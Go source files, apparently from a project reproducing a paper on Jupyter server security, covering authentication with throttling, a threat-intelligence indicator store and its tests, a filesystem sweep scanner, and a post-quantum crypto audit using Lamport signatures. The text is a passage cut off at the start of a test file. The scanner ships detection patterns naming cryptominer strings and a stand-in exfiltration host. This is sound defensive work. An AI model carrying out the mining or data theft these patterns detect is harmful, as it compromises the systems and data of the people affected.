func (a *Authenticator) Config() Config { return a.cfg }

func (a *Authenticator) emit(src, user string, d Decision, detail string) {
	a.sink.Emit(trace.Event{
		Kind: trace.KindAuth, SrcIP: src, User: user,
		Op: string(d), Success: d == DecisionAllow || d == DecisionNoAuthOpen,
		Detail: detail,
	})
}

// throttled reports whether source has exceeded the failure budget,
// pruning stale failures.
func (a *Authenticator) throttledLocked(source string) bool {
	if a.cfg.MaxFailures <= 0 {
		return false
	}
	now := a.clock.Now()
	fresh := a.failures[source][:0]
	for _, t := range a.failures[source] {
		if now.Sub(t) <= a.cfg.FailureWindow {
			fresh = append(fresh, t)
		}
	}
	a.failures[source] = fresh
	return len(fresh) >= a.cfg.MaxFailures
}

func (a *Authenticator) recordFailureLocked(source string) {
	a.failures[source] = append(a.failures[source], a.clock.Now())
}

// CheckToken validates a bearer token presented by source. fromURL
// marks tokens carried in the query string, which hardened configs
// reject (they leak into logs and Referer headers).
func (a *Authenticator) CheckToken(source, token string, fromURL bool) (Decision, error) {
	if a.cfg.DisableAuth {
		a.emit(source, "", DecisionNoAuthOpen, "auth disabled")
		return DecisionNoAuthOpen, nil
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	if a.throttledLocked(source) {
		a.emit(source, "", DecisionThrottled, "token check while throttled")
		return DecisionThrottled, ErrThrottled
	}
	if a.cfg.Token == "" {
		a.recordFailureLocked(source)
		a.emit(source, "", DecisionDeny, "token auth not configured")
		return DecisionDeny, ErrBadCredentials
	}
	if fromURL && !a.cfg.AllowTokenInURL {
		a.recordFailureLocked(source)
		a.emit(source, "", DecisionDeny, "token in URL rejected")
		return DecisionDeny, ErrBadCredentials
	}
	if DigestEqual(token, a.cfg.Token) {
		a.emit(source, "", DecisionAllow, "token")
		return DecisionAllow, nil
	}
	a.recordFailureLocked(source)
	a.emit(source, "", DecisionDeny, "bad token")
	return DecisionDeny, ErrBadCredentials
}

// Login validates a username/password and opens a session.
func (a *Authenticator) Login(source, user, password string) (Session, Decision, error) {
	if a.cfg.DisableAuth {
		s := a.newSessionLocked(user)
		a.emit(source, user, DecisionNoAuthOpen, "auth disabled")
		return s, DecisionNoAuthOpen, nil
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	if a.throttledLocked(source) {
		a.emit(source, user, DecisionThrottled, "login while throttled")
		return Session{}, DecisionThrottled, ErrThrottled
	}
	ph, ok := a.cfg.Passwords[user]
	if !ok || !ph.Verify(password) {
		a.recordFailureLocked(source)
		a.emit(source, user, DecisionDeny, "bad password")
		return Session{}, DecisionDeny, ErrBadCredentials
	}
	s := a.newSessionLocked(user)
	a.emit(source, user, DecisionAllow, "password")
	return s, DecisionAllow, nil
}

// newSessionLocked creates a session; caller holds mu (or no lock is
// needed when auth is disabled — sessions map access is still guarded).
func (a *Authenticator) newSessionLocked(user string) Session {
	if a.cfg.DisableAuth {
		a.mu.Lock()
		defer a.mu.Unlock()
	}
	a.counter++
	buf := make([]byte, 16)
	if _, err := rand.Read(buf); err != nil {
		panic("auth: crypto/rand: " + err.Error())
	}
	now := a.clock.Now()
	s := Session{
		ID:      fmt.Sprintf("sess-%d-%s", a.counter, hex.EncodeToString(buf)),
		User:    user,
		Created: now,
		Expires: now.Add(a.cfg.SessionTTL),
	}
	a.sessions[s.ID] = s
	return s
}

// CheckSession validates a session cookie.
func (a *Authenticator) CheckSession(id string) (Session, error) {
	a.mu.Lock()
	defer a.mu.Unlock()
	s, ok := a.sessions[id]
	if !ok {
		return Session{}, ErrNoSession
	}
	if a.clock.Now().After(s.Expires) {
		delete(a.sessions, id)
		return Session{}, fmt.Errorf("%w: expired", ErrNoSession)
	}
	return s, nil
}

// Revoke deletes a session.
func (a *Authenticator) Revoke(id string) {
	a.mu.Lock()
	defer a.mu.Unlock()
	delete(a.sessions, id)
}

// ActiveSessions returns the number of unexpired sessions.
func (a *Authenticator) ActiveSessions() int {
	a.mu.Lock()
	defer a.mu.Unlock()
	now := a.clock.Now()
	n := 0
	for id, s := range a.sessions {
		if now.After(s.Expires) {
			delete(a.sessions, id)
			continue
		}
		n++
	}
	return n
}

// FailureCount returns current tracked failures for a source.
func (a *Authenticator) FailureCount(source string) int {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.throttledLocked(source) // prune
	return len(a.failures[source])
}

// DigestEqual reports whether two secrets are equal without leaking
// their lengths through timing. hmac.Equal (subtle.ConstantTimeCompare
// underneath) returns immediately on a length mismatch, so comparing
// raw tokens lets an attacker binary-search the token length from
// response latency. Reducing both sides to fixed-length SHA-256
// digests first means every comparison hashes and compares the same
// number of bytes no matter what the candidate looks like.
func DigestEqual(a, b string) bool {
	da := sha256.Sum256([]byte(a))
	db := sha256.Sum256([]byte(b))
	return hmac.Equal(da[:], db[:])
}

// GenerateToken returns a random 48-hex-char bearer token, matching
// Jupyter's default token shape.
func GenerateToken() string {
	buf := make([]byte, 24)
	if _, err := rand.Read(buf); err != nil {
		panic("auth: crypto/rand: " + err.Error())
	}
	return hex.EncodeToString(buf)
}
