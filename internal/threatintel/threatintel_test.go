package threatintel

import (
	"testing"
	"time"

	"repro/internal/rules"
)

var t0 = time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC)

func ipInd(ip string, conf float64) Indicator {
	return Indicator{
		Type: TypeSourceIP, Value: ip, Class: "ransomware",
		Confidence: conf, FirstSeen: t0, LastSeen: t0,
		Sightings: 1, Source: "hp-1", TTL: time.Hour,
	}
}

func TestObserveAndLookup(t *testing.T) {
	s := NewStore()
	s.Observe(ipInd("203.0.113.5", 0.9))
	ind, ok := s.Lookup(TypeSourceIP, "203.0.113.5", t0.Add(time.Minute))
	if !ok || ind.Confidence != 0.9 {
		t.Fatalf("lookup = %+v %v", ind, ok)
	}
	if _, ok := s.Lookup(TypeSourceIP, "1.1.1.1", t0); ok {
		t.Fatal("unknown indicator found")
	}
}

func TestSightingsAccumulate(t *testing.T) {
	s := NewStore()
	s.Observe(ipInd("a", 0.5))
	later := ipInd("a", 0.8)
	later.LastSeen = t0.Add(time.Minute)
	s.Observe(later)
	ind, _ := s.Lookup(TypeSourceIP, "a", t0.Add(2*time.Minute))
	if ind.Sightings != 2 || ind.Confidence != 0.8 || !ind.LastSeen.Equal(t0.Add(time.Minute)) {
		t.Fatalf("merged = %+v", ind)
	}
}

func TestExpiry(t *testing.T) {
	s := NewStore()
	s.Observe(ipInd("a", 0.9))
	if _, ok := s.Lookup(TypeSourceIP, "a", t0.Add(2*time.Hour)); ok {
		t.Fatal("expired indicator returned")
	}
	if n := s.Expire(t0.Add(2 * time.Hour)); n != 1 {
		t.Fatalf("expired = %d", n)
	}
	if s.Count() != 0 {
		t.Fatal("store not empty after expire")
	}
}

func TestIsBlocked(t *testing.T) {
	s := NewStore()
	s.Observe(ipInd("bad", 0.9))
	s.Observe(ipInd("meh", 0.5))
	if !s.IsBlocked("bad", t0.Add(time.Minute)) {
		t.Fatal("high-confidence IP not blocked")
	}
	if s.IsBlocked("meh", t0.Add(time.Minute)) {
		t.Fatal("low-confidence IP blocked")
	}
	if s.IsBlocked("unknown", t0) {
		t.Fatal("unknown IP blocked")
	}
}

func TestBundleRoundTrip(t *testing.T) {
	s := NewStore()
	s.Observe(ipInd("203.0.113.5", 0.9))
	s.Observe(Indicator{
		Type: TypePayloadHash, Value: HashPayload([]byte("payload")),
		Confidence: 0.8, FirstSeen: t0, LastSeen: t0, TTL: time.Hour, Source: "hp-1",
	})
	_ = s.AddRule(&rules.Rule{
		ID: "hp-1-sig-1", Class: "cryptomining", Severity: rules.SevHigh,
		Conditions: []rules.Condition{{Field: "code", Contains: "xmrig"}},
	})
	bundle := s.Export("hp-1", t0.Add(time.Minute))
	data, err := bundle.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	back, err := ParseBundle(data)
	if err != nil {
		t.Fatal(err)
	}
	if len(back.Indicators) != 2 || len(back.Rules) != 1 {
		t.Fatalf("bundle = %d indicators %d rules", len(back.Indicators), len(back.Rules))
	}
	// Parsed rules are compiled and usable.
	en, err := rules.NewEngine(back.Rules)
	if err != nil {
		t.Fatal(err)
	}
	if en.RuleCount() != 1 {
		t.Fatal("rule not loaded")
	}
}

func TestParseBundleRejectsBadRules(t *testing.T) {
	if _, err := ParseBundle([]byte(`{"rules":[{"id":"x","conditions":[{"field":"code","regex":"("}]}]}`)); err == nil {
		t.Fatal("bad regex in bundle accepted")
	}
	if _, err := ParseBundle([]byte(`not json`)); err == nil {
		t.Fatal("garbage accepted")
	}
}

func TestMergeCountsNew(t *testing.T) {
	producer := NewStore()
	producer.Observe(ipInd("a", 0.9))
	producer.Observe(ipInd("b", 0.9))
	_ = producer.AddRule(&rules.Rule{
		ID: "sig-1", Conditions: []rules.Condition{{Field: "code", Contains: "x"}},
	})
	consumer := NewStore()
	consumer.Observe(ipInd("a", 0.5)) // already known
	ni, nr := consumer.Merge(producer.Export("hp", t0.Add(time.Minute)))
	if ni != 1 || nr != 1 {
		t.Fatalf("merge = %d indicators %d rules", ni, nr)
	}
	// Re-merge is idempotent.
	ni, nr = consumer.Merge(producer.Export("hp", t0.Add(time.Minute)))
	if ni != 0 || nr != 0 {
		t.Fatalf("re-merge = %d %d", ni, nr)
	}
	// Known indicator's confidence upgraded by merge.
	ind, _ := consumer.Lookup(TypeSourceIP, "a", t0.Add(2*time.Minute))
	if ind.Confidence != 0.9 {
		t.Fatalf("confidence = %f", ind.Confidence)
	}
}

func TestIndicatorsSorted(t *testing.T) {
	s := NewStore()
	s.Observe(ipInd("b", 0.9))
	s.Observe(ipInd("a", 0.9))
	inds := s.Indicators(t0.Add(time.Minute))
	if len(inds) != 2 || inds[0].Value != "a" {
		t.Fatalf("indicators = %+v", inds)
	}
}

func TestHashPayloadStable(t *testing.T) {
	if HashPayload([]byte("x")) != HashPayload([]byte("x")) {
		t.Fatal("hash unstable")
	}
	if HashPayload([]byte("x")) == HashPayload([]byte("y")) {
		t.Fatal("hash collision")
	}
	if len(HashPayload(nil)) != 64 {
		t.Fatal("hash length wrong")
	}
}

func TestZeroTTLNeverExpires(t *testing.T) {
	s := NewStore()
	ind := ipInd("forever", 0.9)
	ind.TTL = 0
	s.Observe(ind)
	if _, ok := s.Lookup(TypeSourceIP, "forever", t0.Add(1000*time.Hour)); !ok {
		t.Fatal("zero-TTL indicator expired")
	}
}
