// Package threatintel implements the sharing pipeline between edge
// honeypots and production monitors: an indicator store (source IPs,
// payload hashes, extracted signatures) with confidence and expiry, a
// STIX-flavoured JSON exchange format, and merge semantics so multiple
// honeypots can feed one production deployment.
//
// This is the paper's "threat intelligence sharing infrastructure
// learned from the edge".
package threatintel

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"sort"
	"sync"
	"time"

	"repro/internal/rules"
)

// IndicatorType classifies an indicator.
type IndicatorType string

// Indicator types.
const (
	TypeSourceIP    IndicatorType = "source_ip"
	TypePayloadHash IndicatorType = "payload_hash"
	TypeUserAgent   IndicatorType = "user_agent"
	TypeCodePattern IndicatorType = "code_pattern"
)

// Indicator is one shareable observable.
type Indicator struct {
	Type       IndicatorType `json:"type"`
	Value      string        `json:"value"`
	Class      string        `json:"class"` // taxonomy class
	Confidence float64       `json:"confidence"`
	FirstSeen  time.Time     `json:"first_seen"`
	LastSeen   time.Time     `json:"last_seen"`
	Sightings  int           `json:"sightings"`
	Source     string        `json:"source"` // honeypot id
	TTL        time.Duration `json:"ttl"`
}

// Key uniquely identifies an indicator.
func (i Indicator) Key() string { return string(i.Type) + "|" + i.Value }

// Expired reports whether the indicator has aged out at time now.
func (i Indicator) Expired(now time.Time) bool {
	return i.TTL > 0 && now.Sub(i.LastSeen) > i.TTL
}

// HashPayload returns the canonical hex SHA-256 payload hash indicator
// value.
func HashPayload(payload []byte) string {
	sum := sha256.Sum256(payload)
	return hex.EncodeToString(sum[:])
}

// Bundle is the exchange document: indicators plus extracted rules.
type Bundle struct {
	Producer   string        `json:"producer"`
	Created    time.Time     `json:"created"`
	Indicators []Indicator   `json:"indicators"`
	Rules      []*rules.Rule `json:"rules,omitempty"`
}

// Marshal serializes a bundle.
func (b *Bundle) Marshal() ([]byte, error) {
	return json.MarshalIndent(b, "", "  ")
}

// ParseBundle parses and validates a bundle (rules are compiled).
func ParseBundle(data []byte) (*Bundle, error) {
	var b Bundle
	if err := json.Unmarshal(data, &b); err != nil {
		return nil, fmt.Errorf("threatintel: parse bundle: %w", err)
	}
	for _, r := range b.Rules {
		if err := r.Compile(); err != nil {
			return nil, fmt.Errorf("threatintel: bundle rule: %w", err)
		}
	}
	return &b, nil
}

// Store is the indicator database.
type Store struct {
	mu         sync.Mutex
	indicators map[string]*Indicator
	rules      map[string]*rules.Rule
}

// NewStore returns an empty store.
func NewStore() *Store {
	return &Store{indicators: map[string]*Indicator{}, rules: map[string]*rules.Rule{}}
}

// Observe inserts or refreshes an indicator sighting.
func (s *Store) Observe(ind Indicator) {
	s.mu.Lock()
	defer s.mu.Unlock()
	key := ind.Key()
	cur, ok := s.indicators[key]
	if !ok {
		ind.Sightings = max(ind.Sightings, 1)
		copyInd := ind
		s.indicators[key] = &copyInd
		return
	}
	cur.Sightings++
	if ind.LastSeen.After(cur.LastSeen) {
		cur.LastSeen = ind.LastSeen
	}
	if ind.Confidence > cur.Confidence {
		cur.Confidence = ind.Confidence
	}
}

// AddRule stores an extracted signature.
func (s *Store) AddRule(r *rules.Rule) error {
	if err := r.Compile(); err != nil {
		return err
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	s.rules[r.ID] = r
	return nil
}

// Lookup returns the indicator if known and unexpired.
func (s *Store) Lookup(t IndicatorType, value string, now time.Time) (*Indicator, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	ind, ok := s.indicators[string(t)+"|"+value]
	if !ok || ind.Expired(now) {
		return nil, false
	}
	cp := *ind
	return &cp, true
}

// IsBlocked reports whether a source IP indicator meets the blocking
// confidence bar.
func (s *Store) IsBlocked(ip string, now time.Time) bool {
	ind, ok := s.Lookup(TypeSourceIP, ip, now)
	return ok && ind.Confidence >= 0.7
}

// Indicators returns unexpired indicators sorted by key.
func (s *Store) Indicators(now time.Time) []Indicator {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := make([]Indicator, 0, len(s.indicators))
	for _, ind := range s.indicators {
		if !ind.Expired(now) {
			out = append(out, *ind)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Key() < out[j].Key() })
	return out
}

// Rules returns stored rules sorted by id.
func (s *Store) Rules() []*rules.Rule {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := make([]*rules.Rule, 0, len(s.rules))
	for _, r := range s.rules {
		out = append(out, r)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].ID < out[j].ID })
	return out
}

// Export builds a bundle of the store's current content.
func (s *Store) Export(producer string, now time.Time) *Bundle {
	return &Bundle{
		Producer:   producer,
		Created:    now,
		Indicators: s.Indicators(now),
		Rules:      s.Rules(),
	}
}

// Merge folds a bundle into the store, returning counts of new
// indicators and rules.
func (s *Store) Merge(b *Bundle) (newIndicators, newRules int) {
	for _, ind := range b.Indicators {
		s.mu.Lock()
		_, existed := s.indicators[ind.Key()]
		s.mu.Unlock()
		s.Observe(ind)
		if !existed {
			newIndicators++
		}
	}
	for _, r := range b.Rules {
		s.mu.Lock()
		_, existed := s.rules[r.ID]
		s.mu.Unlock()
		if !existed {
			if err := s.AddRule(r); err == nil {
				newRules++
			}
		}
	}
	return newIndicators, newRules
}

// Expire removes aged indicators, returning how many were dropped.
func (s *Store) Expire(now time.Time) int {
	s.mu.Lock()
	defer s.mu.Unlock()
	n := 0
	for k, ind := range s.indicators {
		if ind.Expired(now) {
			delete(s.indicators, k)
			n++
		}
	}
	return n
}

// Count returns the number of stored (possibly expired) indicators.
func (s *Store) Count() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.indicators)
}

func max(a, b int) int {
	if a > b {
		return a
	}
	return b
}
