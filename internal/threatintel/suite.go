package threatintel

import (
	"context"
	"fmt"
	"strings"
	"time"

	"repro/internal/rules"
	"repro/internal/scan"
)

// SuiteName is this scanner's key in the scan suite registry.
const SuiteName = "intel"

// SweepSuite enriches a census with threat intelligence: every file on
// the target's filesystem is checked against the store's payload-hash
// and code-pattern indicators, so a fleet sweep recognizes artifacts
// that honeypots have already attributed to a campaign.
type SweepSuite struct {
	Store *Store
}

// Name implements scan.Suite.
func (SweepSuite) Name() string { return SuiteName }

// Description implements scan.Suite.
func (SweepSuite) Description() string {
	return "match target filesystem contents against threat-intel indicators"
}

// Run implements scan.Suite.
func (s SweepSuite) Run(ctx context.Context, t scan.Target) (scan.Outcome, error) {
	if s.Store == nil || t.FS == nil {
		return scan.Outcome{}, nil
	}
	now := time.Now()
	var patterns []Indicator
	for _, ind := range s.Store.Indicators(now) {
		if ind.Type == TypeCodePattern {
			patterns = append(patterns, ind)
		}
	}
	nodes, err := t.FS.Walk("")
	if err != nil {
		return scan.Outcome{}, err
	}
	var findings []scan.Finding
	for _, n := range nodes {
		if ctx.Err() != nil {
			return scan.Outcome{}, ctx.Err()
		}
		if ind, ok := s.Store.Lookup(TypePayloadHash, HashPayload(n.Content), now); ok {
			findings = append(findings, indicatorFinding("TI-001-payload-hash",
				"Known-bad payload on disk", n.Path, *ind))
		}
		content := string(n.Content)
		for _, ind := range patterns {
			if strings.Contains(content, ind.Value) {
				findings = append(findings, indicatorFinding("TI-002-code-pattern",
					"Threat-intel code pattern match", n.Path, ind))
			}
		}
	}
	scan.Sort(findings)
	return scan.Outcome{Findings: findings}, nil
}

// indicatorFinding converts one matched indicator into a finding,
// grading severity by the sharing pipeline's confidence in it.
func indicatorFinding(checkID, title, path string, ind Indicator) scan.Finding {
	sev := rules.SevMedium
	if ind.Confidence >= 0.9 {
		sev = rules.SevHigh
	}
	class := ind.Class
	if class == "" {
		class = rules.ClassZeroDay
	}
	return scan.Finding{
		Suite: SuiteName, CheckID: checkID, Title: title,
		Severity: sev, Class: class, Target: path + "#" + ind.Value,
		Evidence: fmt.Sprintf("indicator %q (%s, confidence %.2f, source %s) matched %s",
			ind.Value, ind.Type, ind.Confidence, ind.Source, path),
		Remediation: "Quarantine the artifact and block the associated campaign infrastructure.",
	}
}

// BuiltinSweepIndicators returns the compiled-in indicator set the
// default intel sweep suite ships with: campaign signatures every
// census recognizes without a honeypot feed. TTLs are zero so the
// builtin set never ages out mid-sweep (determinism).
func BuiltinSweepIndicators() []Indicator {
	return []Indicator{
		{Type: TypeCodePattern, Value: "stratum+tcp", Class: rules.ClassCryptomining,
			Confidence: 0.95, Sightings: 1, Source: "builtin"},
		{Type: TypeCodePattern, Value: "xmrig", Class: rules.ClassCryptomining,
			Confidence: 0.9, Sightings: 1, Source: "builtin"},
		{Type: TypeCodePattern, Value: "exfil.example", Class: rules.ClassExfiltration,
			Confidence: 0.85, Sightings: 1, Source: "builtin"},
	}
}

func init() {
	store := NewStore()
	for _, ind := range BuiltinSweepIndicators() {
		store.Observe(ind)
	}
	scan.Register(SweepSuite{Store: store})
}
