// Package cryptoaudit addresses the paper's forward-looking section:
// Jupyter's cryptographic design "should be adapted to resist emerging
// quantum threats." It provides (1) a crypto inventory of a deployment
// with harvest-now-decrypt-later exposure analysis, and (2) a
// hash-based Lamport one-time signature scheme over SHA-256 — secure
// against quantum adversaries — used to checkpoint the kernel audit
// log so signatures on past records cannot be spoofed even by a
// future quantum attacker.
package cryptoaudit

import (
	"bytes"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"strings"

	"repro/internal/posture"
	"repro/internal/rules"
)

// Primitive is one cryptographic mechanism in use.
type Primitive struct {
	Name      string `json:"name"`
	Use       string `json:"use"`
	Classical string `json:"classical_security"`
	Quantum   string `json:"quantum_security"`
	// HarvestNowDecryptLater marks mechanisms whose recorded traffic
	// becomes readable once a quantum computer exists.
	HarvestNowDecryptLater bool `json:"harvest_now_decrypt_later"`
	// SpoofableSignature marks signature mechanisms a quantum
	// adversary could forge going forward.
	SpoofableSignature bool `json:"spoofable_signature"`
}

// Inventory lists the crypto posture of a deployment.
type Inventory struct {
	Primitives []Primitive      `json:"primitives"`
	Findings   []rules.Severity `json:"-"`
}

// Audit inventories the crypto mechanisms implied by a server config,
// mirroring the paper's two immediate quantum threats.
func Audit(cfg posture.Config) Inventory {
	inv := Inventory{}
	if cfg.ConnectionKey != "" {
		inv.Primitives = append(inv.Primitives, Primitive{
			Name: "HMAC-SHA256", Use: "kernel message signing",
			Classical: "128-bit", Quantum: "~128-bit (Grover halves to 128 of 256)",
			// Symmetric MACs survive quantum adversaries at halved
			// margin; not spoofable, not harvestable.
		})
	} else {
		inv.Primitives = append(inv.Primitives, Primitive{
			Name: "none", Use: "kernel message signing (disabled)",
			Classical: "0-bit", Quantum: "0-bit", SpoofableSignature: true,
		})
	}
	if cfg.TLSEnabled {
		inv.Primitives = append(inv.Primitives, Primitive{
			Name: "TLS 1.3 (X25519 key exchange)", Use: "transport encryption",
			Classical: "128-bit", Quantum: "broken by Shor",
			HarvestNowDecryptLater: true,
		})
		inv.Primitives = append(inv.Primitives, Primitive{
			Name: "ECDSA P-256", Use: "server certificate",
			Classical: "128-bit", Quantum: "broken by Shor",
			SpoofableSignature: true,
		})
	} else {
		inv.Primitives = append(inv.Primitives, Primitive{
			Name: "plaintext", Use: "transport",
			Classical: "0-bit", Quantum: "0-bit",
			HarvestNowDecryptLater: true,
		})
	}
	inv.Primitives = append(inv.Primitives, Primitive{
		Name: "salted iterated SHA-256", Use: "password storage",
		Classical: "preimage-bound", Quantum: "Grover-degraded, still impractical",
	})
	return inv
}

// HarvestExposed returns the primitives whose traffic is exposed to
// harvest-now-decrypt-later.
func (inv Inventory) HarvestExposed() []Primitive {
	var out []Primitive
	for _, p := range inv.Primitives {
		if p.HarvestNowDecryptLater {
			out = append(out, p)
		}
	}
	return out
}

// Spoofable returns the signature primitives a quantum adversary could
// forge.
func (inv Inventory) Spoofable() []Primitive {
	var out []Primitive
	for _, p := range inv.Primitives {
		if p.SpoofableSignature {
			out = append(out, p)
		}
	}
	return out
}

// Render prints the inventory.
func (inv Inventory) Render() string {
	var b strings.Builder
	b.WriteString("Cryptographic inventory (quantum-threat audit)\n")
	for _, p := range inv.Primitives {
		flags := ""
		if p.HarvestNowDecryptLater {
			flags += " [HARVEST-NOW-DECRYPT-LATER]"
		}
		if p.SpoofableSignature {
			flags += " [QUANTUM-SPOOFABLE]"
		}
		fmt.Fprintf(&b, "  %-32s %-28s classical=%s quantum=%s%s\n",
			p.Name, p.Use, p.Classical, p.Quantum, flags)
	}
	return b.String()
}

// ---- Lamport one-time signatures ----
//
// Classic Lamport OTS over SHA-256: the private key is 2x256 random
// 32-byte values; the public key is their hashes; a signature reveals
// one preimage per message-hash bit. Security rests only on hash
// preimage resistance, which Grover degrades but does not break —
// hence "post-quantum". Each key signs exactly ONE message.

// Sizes of the Lamport scheme.
const (
	hashBytes = sha256.Size   // 32
	numPairs  = hashBytes * 8 // 256 bit positions
	KeyBytes  = numPairs * 2 * hashBytes
	SigBytes  = numPairs * hashBytes
)

// Errors.
var (
	ErrKeyUsed      = errors.New("cryptoaudit: one-time key already used")
	ErrBadSignature = errors.New("cryptoaudit: signature verification failed")
	ErrKeyExhausted = errors.New("cryptoaudit: key chain exhausted")
)

// LamportKey is a one-time signing key.
type LamportKey struct {
	private [numPairs][2][hashBytes]byte
	public  [numPairs][2][hashBytes]byte
	used    bool
}

// PublicKey is the verification half.
type PublicKey struct {
	pairs [numPairs][2][hashBytes]byte
}

// Signature is a Lamport signature.
type Signature struct {
	preimages [numPairs][hashBytes]byte
}

// GenerateKey creates a fresh one-time key from crypto/rand.
func GenerateKey() (*LamportKey, error) {
	k := &LamportKey{}
	var buf [KeyBytes]byte
	if _, err := rand.Read(buf[:]); err != nil {
		return nil, fmt.Errorf("cryptoaudit: rand: %w", err)
	}
	off := 0
	for i := 0; i < numPairs; i++ {
		for b := 0; b < 2; b++ {
			copy(k.private[i][b][:], buf[off:off+hashBytes])
			k.public[i][b] = sha256.Sum256(k.private[i][b][:])
			off += hashBytes
		}
	}
	return k, nil
}

// Public returns the verification key.
func (k *LamportKey) Public() PublicKey {
	return PublicKey{pairs: k.public}
}

// Sign signs the message (hashed internally). A key signs once.
func (k *LamportKey) Sign(message []byte) (*Signature, error) {
	if k.used {
		return nil, ErrKeyUsed
	}
	k.used = true
	digest := sha256.Sum256(message)
	var sig Signature
	for i := 0; i < numPairs; i++ {
		bit := (digest[i/8] >> (7 - uint(i%8))) & 1
		sig.preimages[i] = k.private[i][bit]
	}
	return &sig, nil
}

// Verify checks the signature against the public key.
func (pk PublicKey) Verify(message []byte, sig *Signature) bool {
	digest := sha256.Sum256(message)
	for i := 0; i < numPairs; i++ {
		bit := (digest[i/8] >> (7 - uint(i%8))) & 1
		h := sha256.Sum256(sig.preimages[i][:])
		if !bytes.Equal(h[:], pk.pairs[i][bit][:]) {
			return false
		}
	}
	return true
}

// Fingerprint returns a short hex id of the public key.
func (pk PublicKey) Fingerprint() string {
	h := sha256.New()
	for i := 0; i < numPairs; i++ {
		h.Write(pk.pairs[i][0][:])
		h.Write(pk.pairs[i][1][:])
	}
	return hex.EncodeToString(h.Sum(nil)[:8])
}

// ---- Checkpoint chain ----

// Checkpoint is a signed audit-log head.
type Checkpoint struct {
	Seq     int
	Head    string // audit log chain hash
	KeyID   string
	Sig     *Signature
	NextKey PublicKey // pre-committed key for the next checkpoint
}

// CheckpointChain signs a sequence of audit-log heads, pre-committing
// each next public key inside the signed payload (a simple forward-
// secure chain: forging checkpoint N requires breaking the hash, not
// stealing future keys).
type CheckpointChain struct {
	keys        []*LamportKey
	next        int
	checkpoints []Checkpoint
}

// NewCheckpointChain pre-generates n one-time keys.
func NewCheckpointChain(n int) (*CheckpointChain, error) {
	c := &CheckpointChain{}
	for i := 0; i < n; i++ {
		k, err := GenerateKey()
		if err != nil {
			return nil, err
		}
		c.keys = append(c.keys, k)
	}
	return c, nil
}

// payload binds the head to the next key commitment.
func checkpointPayload(seq int, head string, next PublicKey) []byte {
	return []byte(fmt.Sprintf("ckpt:%d:%s:%s", seq, head, next.Fingerprint()))
}

// Checkpoint signs an audit-log head with the next unused key.
func (c *CheckpointChain) Checkpoint(head string) (Checkpoint, error) {
	if c.next+1 >= len(c.keys) {
		return Checkpoint{}, ErrKeyExhausted
	}
	key := c.keys[c.next]
	nextPub := c.keys[c.next+1].Public()
	seq := len(c.checkpoints) + 1
	sig, err := key.Sign(checkpointPayload(seq, head, nextPub))
	if err != nil {
		return Checkpoint{}, err
	}
	ck := Checkpoint{
		Seq: seq, Head: head, KeyID: key.Public().Fingerprint(),
		Sig: sig, NextKey: nextPub,
	}
	c.checkpoints = append(c.checkpoints, ck)
	c.next++
	return ck, nil
}

// Root returns the first public key — the trust anchor a verifier
// pins.
func (c *CheckpointChain) Root() PublicKey { return c.keys[0].Public() }

// Checkpoints returns all issued checkpoints.
func (c *CheckpointChain) Checkpoints() []Checkpoint {
	out := make([]Checkpoint, len(c.checkpoints))
	copy(out, c.checkpoints)
	return out
}

// VerifyChain validates a checkpoint sequence from the pinned root.
func VerifyChain(root PublicKey, cks []Checkpoint) error {
	pub := root
	for i, ck := range cks {
		if ck.Seq != i+1 {
			return fmt.Errorf("cryptoaudit: checkpoint %d out of order", ck.Seq)
		}
		if !pub.Verify(checkpointPayload(ck.Seq, ck.Head, ck.NextKey), ck.Sig) {
			return fmt.Errorf("%w: checkpoint %d", ErrBadSignature, ck.Seq)
		}
		pub = ck.NextKey
	}
	return nil
}
