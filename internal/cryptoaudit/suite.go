package cryptoaudit

import (
	"context"
	"fmt"

	"repro/internal/rules"
	"repro/internal/scan"
)

// SuiteName is this scanner's key in the scan suite registry.
const SuiteName = "crypto"

// SweepSuite adapts the quantum-threat crypto inventory to the
// unified scan suite contract: each harvest-now-decrypt-later or
// quantum-spoofable primitive in the target's configuration becomes a
// census finding. Primitives that are merely quantum-degraded (not
// already broken classically) rate low severity — the paper's
// forward-looking exposure, not a present-day incident.
type SweepSuite struct{}

// Name implements scan.Suite.
func (SweepSuite) Name() string { return SuiteName }

// Description implements scan.Suite.
func (SweepSuite) Description() string {
	return "quantum-threat inventory of the crypto primitives the configuration implies"
}

// Run implements scan.Suite.
func (SweepSuite) Run(_ context.Context, t scan.Target) (scan.Outcome, error) {
	inv := Audit(t.Config)
	var findings []scan.Finding
	for _, p := range inv.Primitives {
		// A primitive that is already worthless classically is a live
		// exposure; one broken only by a future quantum adversary is a
		// migration item.
		sev := rules.SevLow
		if p.Classical == "0-bit" {
			sev = rules.SevMedium
		}
		if p.HarvestNowDecryptLater {
			findings = append(findings, scan.Finding{
				Suite: SuiteName, CheckID: "CRY-001-harvest", Title: "Harvest-now-decrypt-later exposure",
				Severity: sev, Class: rules.ClassMisconfig, Target: p.Name,
				Evidence:    fmt.Sprintf("%s (%s): quantum security %s", p.Name, p.Use, p.Quantum),
				Remediation: "Migrate key exchange to a post-quantum KEM; recorded traffic is already at risk.",
			})
		}
		if p.SpoofableSignature {
			findings = append(findings, scan.Finding{
				Suite: SuiteName, CheckID: "CRY-002-spoofable-sig", Title: "Quantum-spoofable signature",
				Severity: sev, Class: rules.ClassMisconfig, Target: p.Name,
				Evidence:    fmt.Sprintf("%s (%s): quantum security %s", p.Name, p.Use, p.Quantum),
				Remediation: "Adopt hash-based or lattice signatures (the audit-log checkpoint chain shows the pattern).",
			})
		}
	}
	scan.Sort(findings)
	return scan.Outcome{Findings: findings}, nil
}

func init() { scan.Register(SweepSuite{}) }
