package cryptoaudit

import (
	"errors"
	"strings"
	"testing"

	"repro/internal/server"
)

func TestAuditHardened(t *testing.T) {
